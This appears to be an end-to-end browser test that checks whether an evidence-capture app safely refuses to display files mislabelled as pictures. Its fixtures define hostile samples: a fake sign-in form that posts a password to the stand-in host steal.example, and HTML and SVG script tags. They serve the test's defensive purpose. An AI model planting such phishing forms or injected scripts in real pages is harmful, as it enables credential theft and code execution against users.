import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "puppeteer-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { caseOpened } from "../../src/domain/casework/cases";
import { type CaptureMade, captureMade } from "../../src/domain/evidence/captures";
import type { ArtifactRef } from "../../src/domain/evidence/snapshot";
import { draft } from "../../src/domain/ledger/log";
import { keepArtifact } from "../../src/storage/writing";
import { announced, bundled, logged, written } from "../unit/exchange/support/written";
import { aRating } from "../unit/support/a-fact";
import { withDatabase } from "../unit/support/memory-database";
import { CAPTURE_IDS } from "../unit/support/payloads";
import { NINE } from "../unit/support/ports";
import { axeViolations, click, eventually, inEachBrowser, sees } from "./support";
import { payloadsOf } from "./support/evidence-log";
import { replaceArtifact } from "./support/kept-artifacts";
import { capture, keepOfPages, openCase, readPage } from "./support/panel-steps";
import { serveRichPage } from "./support/rich-page";
import { words } from "./support/words";

const CASE = "HOSTILE-1";
/** What none of our pages may ever hold. */
const FORM = `<form action="https://steal.example"><input name="password"></form><script>document.title="ran"</script>`;
const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** Pictures that are none, and one that is, called something else. */
const PICTURES: readonly (readonly [type: string, content: string | Uint8Array<ArrayBuffer>])[] = [
  ["text/html", `<!doctype html><title>Sign in</title>${FORM}`],
  ["image/png", `<!doctype html><title>Sign in again</title>${FORM}`],
  ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="ran"</script></svg>`],
  ["application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><body>${FORM}</body></html>`],
  ["text/html;charset=utf-8", Uint8Array.from(Buffer.from(PNG, "base64"))],
];

/** A case of a sound log, whose keeper called pages pictures. */
const hostileFile = (): Promise<Uint8Array<ArrayBuffer>> =>
  withDatabase(async (db) => {
    await logged(db, [draft(caseOpened, { caseId: CASE, kind: "other", title: "Hostile", purpose: "" })], 0);
    for (const [n, [mediaType, content]] of PICTURES.entries()) {
      const { sha256, bytes } = await keepArtifact(db, new Blob([content], { type: mediaType }));
      const artifact: ArtifactRef = { role: "screenshot", sha256, bytes, mediaType };
      const made = {
        captureId: CAPTURE_IDS[0].replace(/^./u, String(n)),
        caseId: CASE,
        page: { url: `https://care.example/${n}`, title: `Home ${n}` },
        readAt: NINE,
        subjects: [{ id: "#home", types: ["NursingHome"], name: "Haus 7", identifiers: [] }],
        facts: [aRating()],
        seen: {},
        snapshot: { tier: "screenshot" as const, artifacts: [artifact] },
      };
      await logged(db, [draft(captureMade, made)], 100 * (n + 1));
    }
    await announced(db, 1_000);
    return written(db, await bundled(db, CASE));
  });

/** Links to bytes that would open them, in place of saving them. */
const linksToBytes = (page: Page): Promise<string[]> =>
  page.$$eval('a[href^="blob:"], a[href^="data:"]', (all) =>
    all.filter((one) => !one.hasAttribute("download")).map(({ textContent }) => textContent),
  );

/** Tabs in which one of the form's fields stands. */
const formsIn = async (page: Page): Promise<string[]> => {
  const tabs = await page.browser().pages();
  // One that has been closed meanwhile shows nothing any more.
  const fieldIn = (tab: Page) => tab.$('[name="password"]').catch(() => null);
  const found = await Promise.all(tabs.map(async (tab) => ((await fieldIn(tab)) ? [tab.url()] : [])));
  return found.flat();
};

inEachBrowser("what somebody's file calls a picture", (driver) => {
  const folder = mkdtempSync(join(tmpdir(), "counterflow-e2e-"));
  const path = join(folder, "case.wacz");
  let site: Awaited<ReturnType<typeof serveRichPage>> | undefined;

  beforeAll(async () => {
    writeFileSync(path, await hostileFile());
    site = await serveRichPage();
  });
  afterAll(() => {
    site?.close();
    rmSync(folder, { recursive: true });
  });

  it("is shown if its bytes are one, and opens as nothing else", async () => {
    const workbench = await driver().openWorkbench("#/exchange");
    const field = await eventually("a field", async () => (await workbench.$('input[type="file"]')) ?? undefined);
    await field.uploadFile(path);
    await sees(workbench, words("exchangeTaken"));
    await click(workbench, "link", CASE);
    await sees(workbench, words("pictureNone", words("exchangePicture")));
    const shown = () => workbench.$$eval(".picture img", (all) => all.filter((one) => one.naturalWidth === 1).length);
    await eventually("the one picture", async () => (await shown()) === 1 || undefined);
    expect(await axeViolations(workbench)).toEqual([]);
    // Whatever leads to bytes saves them, and nothing stands in a frame.
    expect(await linksToBytes(workbench)).toEqual([]);
    expect(await workbench.$$("iframe, object, embed, form[action]")).toEqual([]);
    await click(workbench, "button", words("snapshotOpenPicture", words("exchangePicture")));
    await eventually("the picture in full size", () => workbench.$(".whole-picture img"));
    expect(await axeViolations(workbench)).toEqual([]);
    await click(workbench, "button", words("snapshotClose"));
    await eventually("it is closed", async () => (await workbench.$(".whole-picture")) === null || undefined);
    expect(await formsIn(workbench)).toEqual([]);
    await workbench.close();
  });

  it("is not shown on a case of one's own either, where its bytes came with a restored log", async () => {
    const { panel } = await readPage(driver(), site?.url ?? "");
    await openCase(panel, CASE);
    await keepOfPages(panel, CASE, "screenshot");
    await capture(panel, CASE);
    const [made] = await payloadsOf<CaptureMade>(panel, "capture.made");
    for (const { sha256 } of made?.snapshot?.artifacts ?? []) await replaceArtifact(panel, sha256, FORM);
    const workbench = await driver().openWorkbench(`#/cases/${CASE}`);
    const summary = await eventually(
      "the capture",
      async () => (await workbench.$(".as-captured > summary")) ?? undefined,
    );
    await summary.evaluate((one) => {
      one.click();
    });
    await sees(workbench, words("pictureNone", words("artifactScreenshot")));
    expect(await linksToBytes(workbench)).toEqual([]);
  });

  it("leaves no fault in the consoles", () => {
    expect(driver().faults).toEqual([]);
  });
});
